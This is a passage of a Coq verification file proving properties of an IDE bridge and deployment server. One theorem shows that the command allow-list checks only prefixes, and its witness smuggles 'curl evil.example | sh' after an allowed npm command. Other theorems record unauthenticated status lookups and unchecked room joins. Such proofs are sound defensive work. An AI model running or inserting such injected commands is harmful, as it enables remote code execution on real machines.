  existsb (fun c' => String.eqb (ic_id c') id) l = false -> map_delete id l = l.
Proof.
  unfold map_delete. induction l as [|c l IH]; [done|]. cbn.
  intros H. apply orb_false_iff in H as [-> H]. cbn. f_equal. by apply IH.
Qed.

Lemma map_delete_last c l :
  existsb (fun c' => String.eqb (ic_id c') (ic_id c)) l = false ->
  map_delete (ic_id c) (l ++ [c]) = l.
Proof.
  intros H. unfold map_delete. rewrite List.filter_app. cbn.
  rewrite String.eqb_refl. cbn. rewrite app_nil_r. by apply map_delete_fresh.
Qed.

Lemma update_last r d rows :
  existsb (fun r' => String.eqb (icr_id r') (icr_id r)) rows = false ->
  ideConnection_update (icr_id r) "DISCONNECTED" d (rows ++ [r]) =
    (Ok tt, rows ++ [disconnected_row r]).
Proof.
  intros H. unfold ideConnection_update.
  rewrite existsb_app. cbn. rewrite String.eqb_refl, orb_true_r.
  rewrite List.map_app. cbn. rewrite String.eqb_refl. f_equal. f_equal.
  clear -H. induction rows as [|r' rows IH]; [done|]. cbn in *.
  apply orb_false_iff in H as [-> H]. f_equal. by apply IH.
Qed.

(** X14: a registration followed by the disconnection of the socket,
    when the room named is in the store, the socket had no connection
    before, the identifier drawn is that of no connection and of no row,
    and the store calls go through: the connections are again those
    from before the registration, and the row stored for the connection
    is kept with the status DISCONNECTED. *)
Theorem register_then_disconnect jwt_verify socket data s uid u :
  jwt_verify (rg_token data) = Some uid ->
  Store.user_findUnique uid (db (base s)) = Some u ->
  Store.room_exists (rg_roomId data) (db (base s)) = true ->
  calls_fine 3 (oracle (base s)) = true ->
  connection_of (sid socket) (base s) = None ->
  existsb (fun c => String.eqb (ic_id c) (next_uuid (base s))) (ideConnections (base s))
    = false ->
  existsb (fun r => String.eqb (icr_id r) (next_uuid (base s))) (ide_rows s) = false ->
  let s1 := exec_server (register_ide jwt_verify socket data) s in
  let s2 := exec_server (disconnect (registered_as socket u data)) s1 in
  ideConnections (base s2) = ideConnections (base s) /\
  ide_rows s2 = ide_rows s ++ [disconnected_row (row_for u data (base s))].
Proof.
  intros Hv Hu Er Hf Hc Hid Hrow s1 s2. subst s2 s1.
  assert (Hf2 : calls_fine 2 (oracle (base s)) = true).
  { clear -Hf. destruct (oracle (base s)) as [|[] [|[] [|[] ?]]]; done. }
  rewrite (register_ide_run _ _ _ _ _ _ Hv Hu Er Hf2).
  generalize (posted (exec_server (register_ide jwt_verify socket data) s)). intros po'.
  destruct s as [[d ad act ide ob co cl o us sp sw] po rows].
  unfold connection_of in Hc. hred_in Hc. hred_in Hid. hred_in Hrow. hred_in Hf.
  unfold disconnect, connection_of. hred.
  rewrite (map_set_fresh (connection_for socket u data _) ide Hid).
  cbn [sid registered_as].
  set (W := {| db := d; adapter := ad; activeDeployments := act; ideConnections := ide;
               outbox := ob; console := co; clock := cl; oracle := o; uuids := us;
               spawned := sp; statusWrites := sw |}) in *.
  assert (Hfind : find (fun c => String.eqb (ic_socketId c) (sid socket))
                       (ide ++ [connection_for socket u data W]) =
                  Some (connection_for socket u data W)).
  { apply BridgeSpec.find_app_last; [exact Hc|]. apply String.eqb_refl. }
  rewrite Hfind.
  pose proof (map_delete_last (connection_for socket u data W) ide Hid) as Hdel.
  pose proof (update_last (row_for u data W) d rows Hrow) as Hupd.
  cbn [ic_id connection_for icr_id row_for] in Hdel, Hupd.
  destruct o as [|[so se|so se m] [|[so' se'|so' se' m'] [|[so2 se2|so2 se2 m2] o]]];
    try discriminate Hf; cbn [drop]; hred; cbn [ic_id connection_for];
    rewrite Hupd; hred; rewrite Hdel; split; reflexivity.
Qed.

(** Eve's editor registers and goes. *)
Lemma register_then_disconnect_witness :
  ideConnections (base (exec_server
     (disconnect (registered_as (fresh_socket "s-eve") Fixture.eve eve_registers))
     (exec_server (register_ide Fixture.jwt_verify (fresh_socket "s-eve") eve_registers)
        (server_of Fixture.world)))) = [].
Proof.
  apply (register_then_disconnect Fixture.jwt_verify (fresh_socket "s-eve") eve_registers
           (server_of Fixture.world) "eve" Fixture.eve
           eq_refl eq_refl eq_refl eq_refl eq_refl eq_refl eq_refl).
Defined.

Lemma force_all_run l s :
  force_all l s =
    (Ok tt, {| base := base s;
               posted := posted s ++ (force_sync_to (base s) <$> l);
               ide_rows := ide_rows s |}).
Proof.
  revert s. induction l as [|c l IH]; intros [w po rows]; cbn [force_all].
  - unfold hret. cbn. by rewrite app_nil_r.
  - unfold hbind at 1. unfold force_sync, hbind, lift, new_Date, post.
    cbn [base posted ide_rows]. rewrite IH.
    cbn [base posted ide_rows fmap list_fmap]. by rewrite <- app_assoc.
Qed.

(** X15: syncAllIDEs sends force-sync once to the room of the socket of
    each connection of the room whose status is connected, in the order
    of the connections, and to no other; it changes nothing. *)
Theorem syncAllIDEs_targets roomId s :
  posts (syncAllIDEs roomId) s =
    force_sync_to (base s) <$> getActiveConnections roomId (base s) /\
  base (exec_server (syncAllIDEs roomId) s) = base s /\
  forall c, In c (getActiveConnections roomId (base s)) <->
            In c (ideConnections (base s)) /\ ic_roomId c = roomId /\
            ic_status c = connected.
Proof.
  split; [|split].
  - unfold posts, exec_server, syncAllIDEs, hbind, lift. cbn [fst snd].
    rewrite force_all_run. cbn [snd posted base]. apply drop_length_app.
  - unfold exec_server, syncAllIDEs, hbind, lift. cbn [fst snd].
    rewrite force_all_run. destruct s. reflexivity.
  - intros c. unfold getActiveConnections. rewrite filter_In, andb_true_iff.
    rewrite String.eqb_eq. unfold is_connected.
    destruct (ic_status c); split; intros (H1 & H2 & H3); try done.
Qed.

(** Both registrations of Eve's socket are sent force-sync. *)
Lemma syncAllIDEs_targets_witness :
  po_target <$> posts (syncAllIDEs "r1") registered_twice = [ToRoom "s-eve"; ToRoom "s-eve"].
Proof.
  destruct (syncAllIDEs_targets "r1" registered_twice) as [-> _].
  vm_compute. reflexivity.
Defined.

(** *** sync-files *)

Lemma sync_file_answers projectId file w :
  exists r, eval_world (sync_file projectId file) w = Ok r /\ answers file r = true.
Proof.
  destruct w as [d ad act ide ob co cl o us sp sw].
  unfold sync_file, Store.projectFile_update, answers. mred.
  destruct o as [|[so se|so se m] o]; mred;
    try (eexists; split; [reflexivity|cbn; by rewrite String.eqb_refl]);
    (destruct (Store.projectFile_findByPath projectId (relativePath file) d) as [ex|];
     [ destruct (file_updatedAt ex <? lastModified file)%Z; mred;
       try (eexists; split; [reflexivity|cbn; by rewrite String.eqb_refl]);
       try destruct o as [|[so' se'|so' se' m'] o]; mred;
       try (eexists; split; [reflexivity|cbn; by rewrite String.eqb_refl]);
       destruct (existsb (fun f => String.eqb (file_id f) (file_id ex)) (db_files d));
       mred; eexists; (split; [reflexivity|cbn; by rewrite String.eqb_refl])
     | destruct us; try destruct o as [|[so' se'|so' se' m'] o]; mred;
       eexists; (split; [reflexivity|cbn; by rewrite String.eqb_refl]) ]).
Qed.

Lemma sync_loop_answers projectId files w rs :
  eval_world (sync_loop projectId files) w = Ok rs ->
  Forall2 (fun file r => answers file r = true) files rs.
Proof.
  unfold eval_world. revert w rs.
  induction files as [|file rest IH]; intros w rs.
  - cbn. intros [= <-]. constructor.
  - rewrite BridgeSpec.sync_loop_cons.
    destruct (sync_file_answers projectId file w) as (r & Hr & Ha).
    unfold eval_world in Hr.
    destruct (sync_file projectId file w) as [r' w1]. simpl in Hr. subst r'.
    specialize (IH w1).
    destruct (sync_loop projectId rest w1) as [[rs'|e] w2]; simpl; [|discriminate].
    intros [= <-]. constructor; [done|]. by apply IH.
Qed.

(** X16: sync-files from an authenticated connection with access to the
    project, once the project has been looked up, answers with
    sync-complete and tells the others of the room how many files the
    batch had, whatever the store does from then on; the results answer
    the files of the batch one for one and in order, a file on which the
    store failed being reported with the status error and the message.
    The results are the whole reply: no sync-error is sent. *)
Theorem sync_files_every_file socket data w p :
  truthy (userId socket) = true ->
  next_fault w = None ->
  Store.project_findFirst (sy_projectId data) (default "" (userId socket)) (db w) = Some p ->
  exists rs,
    em_event <$> emitted (sync_files socket data) w =
      [ EvSyncComplete rs;
        EvFilesSynced (user socket) (ide_type <$> ideInfo socket)
          (length (sy_files data)) (clock w) ] /\
    Forall2 (fun file r => answers file r = true) (sy_files data) rs.
Proof.
  intros Hauth Hf Hp.
  destruct (BridgeSpec.sync_files_reports_loop socket data w p Hauth Hf Hp)
    as (rs & Hrs & Hem).
  exists rs. split; [exact Hem|]. by apply sync_loop_answers in Hrs.
Qed.

(** Bob's editor sends two files; the store fails on the first. *)
Lemma sync_files_every_file_witness :
  exists rs,
    em_event <$> emitted (sync_files (Fixture.ide_socket_of Fixture.bob) two_files)
                         store_fails_once =
      [ EvSyncComplete rs;
        EvFilesSynced (Some Fixture.bob) (Some "vscode") 2 1000 ] /\
    sr_status <$> rs = ["error"; "created"].
Proof.
  destruct (sync_files_every_file (Fixture.ide_socket_of Fixture.bob) two_files
              store_fails_once
              {| project_id := "p1"; project_name := "site"; project_roomId := "r1" |}
              eq_refl eq_refl eq_refl) as (rs & Hem & _).
  exists rs. split; [exact Hem|].
  assert (E : em_event <$> emitted (sync_files (Fixture.ide_socket_of Fixture.bob) two_files)
                store_fails_once =
              [ EvSyncComplete [ result "a.txt" "error" None (Some "deadlock");
                                 result "b.txt" "created" (Some "id-1") None ];
                EvFilesSynced (Some Fixture.bob) (Some "vscode") 2 1000 ])
    by (vm_compute; reflexivity).
  rewrite E in Hem. injection Hem as <-. reflexivity.
Defined.

(** X17: sync-files from a connection that is not authenticated asks the
    store nothing and answers with sync-error 'Not authenticated'; from
    an authenticated caller without access to the project it answers
    'Project access denied'; when the lookup of the project fails it
    answers 'Failed to sync files'.  In the three cases the store is
    left as it was and the room is told nothing. *)
Theorem sync_files_denied socket data w :
  let w' := exec_world (sync_files socket data) w in
  (truthy (userId socket) = false ->
     em_event <$> emitted (sync_files socket data) w = [EvSyncError "Not authenticated"] /\
     oracle w' = oracle w) /\
  (truthy (userId socket) = true -> next_fault w = None ->
   Store.project_findFirst (sy_projectId data) (default "" (userId socket)) (db w) = None ->
     em_event <$> emitted (sync_files socket data) w = [EvSyncError "Project access denied"]) /\
  (truthy (userId socket) = true -> is_Some (next_fault w) ->
     em_event <$> emitted (sync_files socket data) w = [EvSyncError "Failed to sync files"]) /\
  (truthy (userId socket) = false \/ is_Some (next_fault w) \/
   Store.project_findFirst (sy_projectId data) (default "" (userId socket)) (db w) = None ->
     db w' = db w /\ forallb to_sender (emitted (sync_files socket data) w) = true).
Proof.
  intros w'. subst w'. unfold next_fault.
  destruct w as [d ad act ide ob co cl o us sp sw]. unfold sync_files.
  split; [|split; [|split]].
  - intros Ha. rewrite Ha. mred. tidy. split; reflexivity.
  - intros Ha Hf Hp. rewrite Ha. mred_in Hf. mred_in Hp.
    destruct o as [|[so se|so se m] o]; try discriminate Hf; mred; rewrite Hp; mred; tidy;
      reflexivity.
  - intros Ha [m Hf]. rewrite Ha. mred_in Hf.
    destruct o as [|[so se|so se m'] o]; try discriminate Hf; mred; tidy; reflexivity.
  - intros [Ha|[[m Hf]|Hp]].
    + rewrite Ha. mred. tidy. split; reflexivity.
    + mred_in Hf. destruct (truthy (userId socket));
        destruct o as [|[so se|so se m'] o]; try discriminate Hf; mred; tidy;
        split; reflexivity.
    + mred_in Hp. destruct (truthy (userId socket));
        destruct o as [|[so se|so se m'] o]; mred; rewrite ?Hp; mred; tidy;
        split; reflexivity.
Qed.

(** Eve's editor, registered, has no access to p1. *)
Lemma sync_files_denied_witness :
  em_event <$> emitted (sync_files (Fixture.ide_socket_of Fixture.eve) two_files)
                       Fixture.world = [EvSyncError "Project access denied"] /\
  em_event <$> emitted (sync_files (fresh_socket "s-x") two_files) Fixture.world =
    [EvSyncError "Not authenticated"] /\
  db (exec_world (sync_files (Fixture.ide_socket_of Fixture.eve) two_files) Fixture.world) =
    db Fixture.world.
Proof.
  destruct (sync_files_denied (Fixture.ide_socket_of Fixture.eve) two_files Fixture.world)
    as (_ & H2 & _ & H4).
  destruct (sync_files_denied (fresh_socket "s-x") two_files Fixture.world)
    as (H1 & _).
  split; [|split].
  - apply H2; reflexivity.
  - apply H1. reflexivity.
  - apply H4. right. right. reflexivity.
Defined.

(** *** execute-command *)

Lemma prefix_append (a b c : string) :
  String.prefix a b = true -> String.prefix a (b +:+ c) = true.
Proof.
  revert a. induction b as [|y b IH]; intros a.
  - destruct a; [|done]. intros _. by destruct ("" +:+ c).
  - destruct a as [|x a]; [done|].
    change (String y b +:+ c) with (String y (b +:+ c)).
    cbn [String.prefix]. destruct (Ascii.ascii_dec x y); [|done]. apply IH.
Qed.

(** X18: the allow-list of execute-command looks at the beginning of the
    command alone: an allowed command with anything appended to it is
    allowed, and an authenticated connection has it spawned as it is, in
    the working directory of the payload when there is one; a connection
    that is not authenticated has nothing spawned, whatever the
    command. *)
Theorem allow_list_prefix_only socket data suffix w :
  allowed (cm_command data) = true ->
  allowed (cm_command (with_suffix data suffix)) = true /\
  (truthy (userId socket) = true ->
     spawned (exec_world (execute_command socket (with_suffix data suffix)) w) =
       spawned w ++ [ {| sp_command := cm_command data +:+ suffix;
                         sp_cwd := command_cwd socket data |} ]) /\
  (truthy (userId socket) = false ->
     spawned (exec_world (execute_command socket (with_suffix data suffix)) w) = spawned w /\
     em_event <$> emitted (execute_command socket (with_suffix data suffix)) w =
       [EvCommandError "Not authenticated"]).
Proof.
  intros Ha.
  assert (Ha' : allowed (cm_command (with_suffix data suffix)) = true).
  { unfold allowed in *. apply existsb_exists in Ha as (safe & Hin & Hp).
    apply existsb_exists. exists safe. split; [done|].
    unfold startsWith in *. cbn [with_suffix cm_command]. by apply prefix_append. }
  split; [exact Ha'|].
  destruct w as [d ad act ide ob co cl o us sp sw]. unfold execute_command.
  split.
  - intros Hu. rewrite Hu, Ha'. unfold command_cwd. cbn [with_suffix cm_command
      cm_workingDirectory cm_roomId].
    destruct o as [|[so se|so se m] o]; mred; reflexivity.
  - intros Hu. rewrite Hu. mred. tidy. split; reflexivity.
Qed.

Lemma allow_list_prefix_only_witness :
  allowed "npm run test; curl evil.example | sh" = true /\
  sp_command <$> spawned (exec_world
     (execute_command (Fixture.ide_socket_of Fixture.bob)
        (with_suffix npm_test "; curl evil.example | sh")) Fixture.world) =
    ["npm run test; curl evil.example | sh"].
Proof.
  destruct (allow_list_prefix_only (Fixture.ide_socket_of Fixture.bob) npm_test
              "; curl evil.example | sh" Fixture.world eq_refl) as (H1 & H2 & _).
  split; [exact H1|]. rewrite (H2 eq_refl). reflexivity.
Defined.

(** *** git-operation *)

Lemma git_command_git operation params command :
  git_command operation params = Some command ->
  String.prefix "git " command = true /\
  In operation ["status"; "add"; "commit"; "push"; "pull"; "branch"].
Proof.
  unfold git_command.
  destruct (String.eqb operation "status") eqn:E1;
    [apply String.eqb_eq in E1; subst operation; intros [= <-]; split; [reflexivity|cbn; auto 10]|].
  destruct (String.eqb operation "add") eqn:E2;
    [apply String.eqb_eq in E2; subst operation; intros [= <-]; split; [reflexivity|cbn; auto 10]|].
  destruct (String.eqb operation "commit") eqn:E3;
    [apply String.eqb_eq in E3; subst operation; intros [= <-]; split; [reflexivity|cbn; auto 10]|].
  destruct (String.eqb operation "push") eqn:E4;
    [apply String.eqb_eq in E4; subst operation; intros [= <-]; split; [reflexivity|cbn; auto 10]|].
  destruct (String.eqb operation "pull") eqn:E5;
    [apply String.eqb_eq in E5; subst operation; intros [= <-]; split; [reflexivity|cbn; auto 10]|].
  destruct (String.eqb operation "branch") eqn:E6;
    [apply String.eqb_eq in E6; subst operation; intros [= <-]; split; [reflexivity|cbn; auto 10]|].
  discriminate.
Qed.

(** X19: a git-operation whose command goes through runs one command,
    which begins with [git ] and belongs to one of the six operations,
    in the workspace path the connection registered with, and the caller
    is sent the output.  The project named is not looked up.  When the
    user of the connection and the project named are in the store, the
    row of the operation is stored with the command and then the others
    of the room are told.  When one of them is not, the store refuses
    the row for its foreign key: nothing is stored, the room is not
    told, and the caller is sent a second git-result, with
    [success: false]. *)
Theorem git_operation_success socket data w command :
  registered socket = true ->
  git_command (g_operation data) (g_params data) = Some command ->
  calls_fine 2 (oracle w) = true ->
  let w' := exec_world (git_operation socket data) w in
  String.prefix "git " command = true /\
  spawned w' = spawned w ++ [ {| sp_command := command;
                                 sp_cwd := ide_workspacePath <$> ideInfo socket |} ] /\
  (Store.user_exists (default "" (userId socket)) (db w) = true ->
   Store.project_exists (g_projectId data) (db w) = true ->
     db_gitOperations (db w') =
       db_gitOperations (db w) ++ [git_row socket data command (next_stdout w)] /\
     emitted (git_operation socket data) w =
       [ git_result socket (g_operation data) (next_stdout w) (next_stderr w) true;
         mk_emit (adapter w) (Some (sid socket)) (ToRoomOthers (g_roomId data))
           (EvTeamGitOperation (user socket) (g_operation data) true (clock w)) ]) /\
  (Store.user_exists (default "" (userId socket)) (db w) = false \/
   Store.project_exists (g_projectId data) (db w) = false ->
     db w' = db w /\
     exists message,
       emitted (git_operation socket data) w =
         [ git_result socket (g_operation data) (next_stdout w) (next_stderr w) true;
           git_result socket (g_operation data) "" message false ]).
Proof.
  intros Hreg Hcmd Hf w'. subst w'.
  split; [by destruct (git_command_git _ _ _ Hcmd)|].
  apply BridgeSpec.registered_inv in Hreg as [Hu Hp].
  destruct w as [d ad act ide ob co cl o us sp sw]. mred_in Hf.
  unfold git_operation, git_result, git_row, next_stdout, next_stderr. mred.
  rewrite Hu, Hp, Hcmd.
  destruct (Store.user_exists (default "" (userId socket)) d) eqn:Eu;
    destruct (Store.project_exists (g_projectId data) d) eqn:Ep;
    destruct o as [|[so se|so se m] [|[so' se'|so' se' m'] o]]; try discriminate Hf;
    mred; unfold Store.gitOperation_create, Store.set_gitOperations, Store.foreign_key;
    cbn [go_userId go_projectId]; rewrite Eu, ?Ep; mred; tidy;
    (split; [reflexivity|]);
    (split; [intros H1 H2; try discriminate H1; try discriminate H2; split; reflexivity|]);
    intros [H|H]; try discriminate H; (split; [reflexivity|]); eexists; reflexivity.
Qed.

(** Bob asks for the status of the workspace: for p1 the operation is
    recorded; for p9, which is not in the store, it is not, and he is
    sent two results. *)
Lemma git_operation_success_witness :
  sp_command <$> spawned (exec_world
     (git_operation (Fixture.ide_socket_of Fixture.bob) git_status) Fixture.world) =
    ["git status --porcelain"] /\
  go_command <$> db_gitOperations (db (exec_world
     (git_operation (Fixture.ide_socket_of Fixture.bob) git_status) Fixture.world)) =
    ["git status --porcelain"] /\
  db (exec_world (git_operation (Fixture.ide_socket_of Fixture.bob) git_status_nowhere)
                 Fixture.world) = db Fixture.world /\
  (fun e => match em_event e with EvGitResult _ _ _ ok => Some ok | _ => None end) <$>
    emitted (git_operation (Fixture.ide_socket_of Fixture.bob) git_status_nowhere)
            Fixture.world = [Some true; Some false].
Proof.
  destruct (git_operation_success (Fixture.ide_socket_of Fixture.bob) git_status
              Fixture.world "git status --porcelain" eq_refl eq_refl eq_refl)
    as (_ & H2 & H3 & _).
  destruct (git_operation_success (Fixture.ide_socket_of Fixture.bob) git_status_nowhere
              Fixture.world "git status --porcelain" eq_refl eq_refl eq_refl)
    as (_ & _ & _ & G4).
  destruct (H3 eq_refl eq_refl) as [H3' _].
  destruct (G4 (or_intror eq_refl)) as (Gd & message & Ge).
  rewrite H2, H3', Ge. split; [reflexivity|]. split; [reflexivity|].
  split; [exact Gd|reflexivity].
Defined.

(** X20: a git-operation whose operation is none of the six runs no
    command and stores nothing; the caller is sent a git-result with
    [success: false] and 'Invalid git operation' in the place of the
    error output, not a git-error.  A connection that did not register
    is sent the git-error 'IDE not properly connected' and nothing is
    run either. *)
Theorem git_operation_invalid socket data w :
  let w' := exec_world (git_operation socket data) w in
  (registered socket = true ->
   git_command (g_operation data) (g_params data) = None ->
     emitted (git_operation socket data) w =
       [git_result socket (g_operation data) "" "Invalid git operation" false] /\
     spawned w' = spawned w /\ db w' = db w /\ oracle w' = oracle w) /\
  (registered socket = false ->
     em_event <$> emitted (git_operation socket data) w =
       [EvGitError "IDE not properly connected"] /\
     spawned w' = spawned w /\ db w' = db w /\ oracle w' = oracle w).
Proof.
  intros w'. subst w'.
  destruct w as [d ad act ide ob co cl o us sp sw].
  unfold git_operation, git_result. split.
  - intros Hreg Hcmd. apply BridgeSpec.registered_inv in Hreg as [Hu Hp].
    rewrite Hu, Hp, Hcmd. mred. tidy. repeat split; reflexivity.
  - unfold registered. intros Hreg.
    assert (E : negb (truthy (userId socket)) ||
                negb (truthy (ide_workspacePath <$> ideInfo socket)) = true).
    { rewrite <- negb_andb. by rewrite Hreg. }
    rewrite E. mred. tidy. repeat split; reflexivity.
Qed.

Lemma git_operation_invalid_witness :
  em_event <$> emitted (git_operation (Fixture.ide_socket_of Fixture.bob) git_rebase)
                       Fixture.world =
    [EvGitResult "rebase" "" "Invalid git operation" false] /\
  em_event <$> emitted (git_operation (fresh_socket "s-x") git_status) Fixture.world =
    [EvGitError "IDE not properly connected"].
Proof.
  destruct (git_operation_invalid (Fixture.ide_socket_of Fixture.bob) git_rebase
              Fixture.world) as [H1 _].
  destruct (git_operation_invalid (fresh_socket "s-x") git_status Fixture.world)
    as [_ H2].
  destruct (H1 eq_refl eq_refl) as [-> _]. destruct (H2 eq_refl) as [-> _].
  split; reflexivity.
Defined.

(** X21: when the git command goes through and the store then fails on
    the row of the operation, the caller is sent two git-results for the
    one operation, the first with [success: true] and the output, the
    second with [success: false] and the message of the store; no row is
    stored and the room is told nothing, although the command ran. *)
Theorem git_operation_audit_fault socket data w command so se so' se' m o :
  registered socket = true ->
  git_command (g_operation data) (g_params data) = Some command ->
  oracle w = Fine so se :: Fault so' se' m :: o ->
  let w' := exec_world (git_operation socket data) w in
  emitted (git_operation socket data) w =
    [ git_result socket (g_operation data) so se true;
      git_result socket (g_operation data) "" m false ] /\
  db w' = db w /\
  sp_command <$> spawned w' = (sp_command <$> spawned w) ++ [command].
Proof.
  intros Hreg Hcmd Ho w'. subst w'.
  apply BridgeSpec.registered_inv in Hreg as [Hu Hp].
  destruct w as [d ad act ide ob co cl o' us sp sw]. mred_in Ho. subst o'.
  unfold git_operation, git_result. rewrite Hu, Hp, Hcmd.
  mred. tidy. rewrite fmap_app. repeat split; reflexivity.
Qed.

Lemma git_operation_audit_fault_witness :
  em_event <$> emitted (git_operation (Fixture.ide_socket_of Fixture.bob) git_status)
                       audit_fails =
    [ EvGitResult "status" " M a.txt" "" true; EvGitResult "status" "" "deadlock" false ].
Proof.
  destruct (git_operation_audit_fault (Fixture.ide_socket_of Fixture.bob) git_status
              audit_fails "git status --porcelain" " M a.txt" "" "" "" "deadlock" []
              eq_refl eq_refl eq_refl) as [-> _].
  reflexivity.
Defined.

(** *** getLanguageFromExtension *)

(** X22: the language given to a synced file is never empty: it is
    [text] for a path without extension, and otherwise [text] or one of
    the languages of the table; and it depends on the extension only up
    to the case of its letters. *)
Theorem language_of_extension p :
  (Path.extname p = "" -> getLanguageFromExtension p = "text") /\
  (getLanguageFromExtension p = "text" \/
   In (getLanguageFromExtension p) (snd <$> languageMap)) /\
  getLanguageFromExtension p <> "" /\
  (forall q, Path.toLowerCase (Path.extname q) = Path.toLowerCase (Path.extname p) ->
             getLanguageFromExtension q = getLanguageFromExtension p).
Proof.
  assert (Hne : forallb (fun kv => negb (String.eqb (snd kv) "")) languageMap = true)
    by reflexivity.
  unfold getLanguageFromExtension. split; [|split; [|split]].
  - intros ->. reflexivity.
  - destruct (find _ languageMap) as [kv|] eqn:E; [|by left].
    apply find_some in E as [Hin _]. right.
    pose proof (proj1 (forallb_forall _ _) Hne kv Hin) as Hkv. cbv beta in Hkv.
    cbn [fmap option_fmap option_map or_else]. unfold option_map, or_else.
    destruct (String.eqb (snd kv) "") eqn:E'; [cbn in Hkv; discriminate Hkv|].
    change (In (snd kv) (map snd languageMap)). by apply in_map.
  - destruct (find _ languageMap) as [kv|] eqn:E; [|done].
    apply find_some in E as [Hin _].
    pose proof (proj1 (forallb_forall _ _) Hne kv Hin) as Hkv. cbv beta in Hkv.
    cbn [fmap option_fmap option_map or_else]. unfold option_map, or_else.
    destruct (String.eqb (snd kv) "") eqn:E'; [cbn in Hkv; discriminate Hkv|].
    by apply String.eqb_neq.
  - intros q ->. reflexivity.
Qed.

Lemma language_of_extension_witness :
  getLanguageFromExtension "Makefile" = "text" /\
  getLanguageFromExtension "src/App.TSX" = getLanguageFromExtension "b.tsx".
Proof.
  split.
  - apply (language_of_extension "Makefile"). reflexivity.
  - apply (language_of_extension "b.tsx"). reflexivity.
Defined.

End BridgeMoreSpec.

(** ** deployment.ts: the status lookup, the retention, the providers *)

Module DeploymentMoreSpec.
Import Deployment DeploymentClaims DeploymentMore DeploymentSpec.

Lemma lookup_kept now (m : gmap string DeploymentStatus) id :
  filter (fun kv => old now (snd kv) = false) m !! id =
    match m !! id with
    | Some d => if old now d then None else Some d
    | None => None
    end.
Proof.
  destruct (m !! id) as [d|] eqn:E.
  - destruct (old now d) eqn:Eo.
    + apply map_lookup_filter_None. right. intros d' Hd'. cbn.
      rewrite E in Hd'. injection Hd' as <-. by rewrite Eo.
    + apply map_lookup_filter_Some. done.
  - apply map_lookup_filter_None. by left.
Qed.

(** X23: cleanupOldDeployments removes from the table the deployments
    that ended more than two days before, and those only: a deployment
    without end time stays however old it is, and so does one that ended
    two days before to the millisecond.  Running it again removes nothing
    more, and the rows of the store are not touched. *)
Theorem cleanup_retention w :
  let w' := exec_world cleanupOldDeployments w in
  (forall id, activeDeployments w' !! id =
     match activeDeployments w !! id with
     | Some d => if old (clock w) d then None else Some d
     | None => None
     end) /\
  (forall d, old (clock w) d = true <->
     exists t, dep_endTime d = Some t /\ (t < clock w - 172800000)%Z) /\
  exec_world cleanupOldDeployments w' = w' /\
  db w' = db w.
Proof.
  intros w'. subst w'. destruct w as [d ad act ide ob co cl o us sp sw].
  unfold cleanupOldDeployments. mred.
  split; [|split; [|split]].
  - intros id. apply lookup_kept.
  - intros x. unfold old, two_days. destruct (dep_endTime x) as [t|].
    + rewrite Z.ltb_lt. split; [intros H; exists t; split; [done|lia]|].
      intros (t' & [= <-] & H). lia.
    + split; [done|]. intros (t & Ht & _). done.
  - f_equal. apply map_eq. intros id. rewrite !lookup_kept.
    destruct (act !! id) as [x|]; [|done]. by destruct (old cl x) eqn:E; [|rewrite E].
  - reflexivity.
Qed.

(** Three days on, the deployment that succeeded is gone from the table
    and the one that is still building is kept. *)
Lemma cleanup_retention_witness :
  activeDeployments (exec_world cleanupOldDeployments (three_days_on succeeded_world))
    !! "id-1" = None /\
  dep_status <$> activeDeployments
     (exec_world cleanupOldDeployments (three_days_on building_world)) !! "id-1" =
    Some building.
Proof.
  destruct (cleanup_retention (three_days_on succeeded_world)) as [H1 _].
  destruct (cleanup_retention (three_days_on building_world)) as [H2 _].
  rewrite H1, H2. split; vm_compute; reflexivity.
Defined.

(** X24: get-deployment-status asks for no token: any connection that
    names a deployment of the table is sent the whole of its status, the
    logs included; for an identifier that is not in the table the reply
    is deployment-error 'Deployment not found', and that is the reply
    for a deployment cleanupOldDeployments has removed, whose row the
    store still has.  Nothing is changed. *)
Theorem status_lookup socket id s :
  match activeDeployments (base s) !! id with
  | Some d =>
      posts (get_deployment_status socket id) s = [status_reply socket d] /\
      emits (get_deployment_status socket id) s = [] /\
      (old (clock (base s)) d = true ->
       let s' := {| base := exec_world cleanupOldDeployments (base s);
                    posted := posted s; ide_rows := ide_rows s |} in
       emits (get_deployment_status socket id) s' =
         [deployment_error socket "Deployment not found"] /\
       db (base s') = db (base s))
  | None =>
      posts (get_deployment_status socket id) s = [] /\
      emits (get_deployment_status socket id) s =
        [deployment_error socket "Deployment not found"]
  end /\
  activeDeployments (base (exec_server (get_deployment_status socket id) s)) =
    activeDeployments (base s) /\
  eval_world (getDeploymentStatus id) (base s) = Ok (activeDeployments (base s) !! id).
Proof.
  destruct s as [[d ad act ide ob co cl o us sp sw] po rows].
  unfold get_deployment_status, getDeploymentStatus, get_deployment, status_reply,
    deployment_error, cleanupOldDeployments.
  hred. split; [|split; [|reflexivity]].
  - destruct (act !! id) as [x|] eqn:E; hred; tidy.
    + split; [reflexivity|]. split; [reflexivity|].
      intros Ho. rewrite lookup_kept, E, Ho. hred. tidy. split; reflexivity.
    + split; reflexivity.
  - destruct (act !! id) as [x|]; reflexivity.
Qed.

(** Eve asks for the status of Ann's deployment, and again three days
    later, after the clean-up. *)
Lemma status_lookup_witness :
  po_recipients <$> posts (get_deployment_status "s-eve" "id-1") (server_of succeeded_world)
    = [ {[ "s-eve" ]} ] /\
  emits (get_deployment_status "s-eve" "id-1")
        (server_of (exec_world cleanupOldDeployments (three_days_on succeeded_world))) =
    [deployment_error "s-eve" "Deployment not found"].
Proof.
  destruct (status_lookup "s-eve" "id-1" (server_of succeeded_world)) as [H1 _].
  destruct (status_lookup "s-eve" "id-1" (server_of (three_days_on succeeded_world)))
    as [H2 _].
  split.
  - destruct (activeDeployments (base (server_of succeeded_world)) !! "id-1") as [d|] eqn:E;
      [|vm_compute in E; discriminate E].
    destruct H1 as [-> _]. reflexivity.
  - destruct (activeDeployments (base (server_of (three_days_on succeeded_world))) !! "id-1")
      as [d|] eqn:E; [|vm_compute in E; discriminate E].
    destruct H2 as (_ & _ & H2). apply H2.
    vm_compute in E. injection E as <-. vm_compute. reflexivity.
Defined.

(** *** start-deployment *)

(** X25: start-deployment from a caller with access to the project joins
    the connection to the room named in the payload, which is not
    compared with the room of the project, and enters the deployment in
    the table before the store is asked to create its row.  When that
    call fails, the caller is told 'Failed to start deployment' and the
    store has no row, but the connection stays in the room and the
    deployment stays in the table as pending; having no end time, it is
    never removed by cleanupOldDeployments. *)
Theorem start_deployment_orphan jwt socket data w uid u p files room so1 se1 so2 se2 so se m o :
  jwt (sd_token data) = Some uid ->
  Store.user_findUnique uid (db w) = Some u ->
